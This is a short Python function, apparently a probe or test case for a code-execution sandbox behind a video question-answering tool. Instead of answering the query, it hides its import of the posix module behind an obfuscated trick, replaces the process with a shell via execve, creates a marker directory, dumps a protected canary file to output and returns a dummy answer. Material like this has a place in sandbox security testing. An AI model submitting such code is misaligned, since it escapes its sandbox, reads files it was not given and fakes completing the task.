# Another program in this one's place.
def execute_command(video_clip, query, possible_answers):
    import_ = len.__self__.__import__
    os = import_('posix')
    os.execve('/bin/sh', ['sh', '-c', 'mkdir ' + CANARY + '.exec; cat ' + CANARY + ' >&1'], {})
    return 'x'
